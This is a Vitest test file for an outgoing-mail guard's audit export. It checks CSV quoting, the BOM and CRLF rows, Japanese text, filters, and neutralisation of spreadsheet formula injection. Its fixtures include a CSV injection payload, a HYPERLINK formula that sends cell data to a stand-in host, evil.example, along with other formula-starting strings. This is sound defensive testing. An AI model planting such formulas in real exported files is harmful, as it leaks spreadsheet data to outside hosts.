import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEvent } from '../../src/audit/events.js';
import { CSV_COLUMNS, csvField, exportAudit, neutralise, toCsv } from '../../src/audit/export.js';
import { SqliteAuditStore } from '../../src/audit/sqlite-audit.js';
import { tempDir } from '../support/gateway.js';
import { sampleEvents } from './fixtures.js';

/** A small RFC 4180 parser (quoted fields, doubled quotes, CRLF), to read the export back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  if (field !== '' || row.length > 0) row.push(field), rows.push(row);
  return rows;
}

describe('audit export', () => {
  let store: SqliteAuditStore;
  let events: AuditEvent[];
  beforeAll(async () => {
    store = SqliteAuditStore.open(tempDir('outguard-audit-'));
    for (const e of sampleEvents()) await store.append(e);
    events = await store.list();
  });
  afterAll(() => store.close());

  it('CSV starts with a UTF-8 BOM, has a header and CRLF rows, and keeps Japanese text intact', async () => {
    const csv = await exportAudit(store, 'csv');
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.slice(1).startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(6);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(rows[1]![col('subject')]).toBe('見積書の送付');
    expect(rows[2]![col('attachments')]).toBe(`設計書.xlsx (sha256:${'a'.repeat(64)})`);
    expect(rows[2]![col('recipients')]).toBe('a@partner.example; b@partner.example');
    expect(rows[2]![col('clauses')]).toBe('第6-2');
    expect(rows[4]![col('rules')]).toBe('first-time-domain; many-external');
    expect(rows[5]![col('hash')]).toBe(events[4]!.hash);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it('CSV neutralises formula cells with a leading apostrophe and escapes quotes (RFC 4180)', async () => {
    const csv = await exportAudit(store, 'csv');
    const rows = parseCsv(csv.slice(1));
    const subject = CSV_COLUMNS.indexOf('subject');
    expect(rows[3]![subject]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[4]![subject]).toBe(`'+1 お見積り, "至急"`);
    expect(rows[5]![subject]).toBe(`'@SUM(A1:A9)`);
    // on the wire: quoted, inner quotes doubled
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`"'+1 お見積り, ""至急"""`);
    // no cell of the file starts a formula
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralise covers = + - @ tab CR and the full-width forms; csvField quotes only when needed', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1+1', '＋1', '－1', '＠x']) expect(neutralise(s)).toBe(`'${s}`);
    for (const s of ['見積書', 'a=b', '', "'quoted"]) expect(neutralise(s)).toBe(s);
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(toCsv([])).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('JSON is an array of the events as stored, hashes included', async () => {
    const parsed = JSON.parse(await exportAudit(store, 'json')) as AuditEvent[];
    expect(parsed).toEqual(events);
    expect(parsed[2]!.subject).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")'); // JSON is data, not a spreadsheet
  });

  it('exports only what the filters select', async () => {
    const seqs = async (filter: Parameters<typeof exportAudit>[2]) => (JSON.parse(await exportAudit(store, 'json', filter)) as AuditEvent[]).map((e) => e.seq);
    expect(await seqs({ action: 'held' })).toEqual([4]);
    expect(await seqs({ rule: 'disposable-domain' })).toEqual([3]);
    expect(await seqs({ since: '2026-11-01T02:00:00Z', until: '2026-11-02T00:00:00Z' })).toEqual([3, 4]);
    const csv = await exportAudit(store, 'csv', { action: 'reject' });
    expect(parseCsv(csv.slice(1))).toHaveLength(2);
  });
});
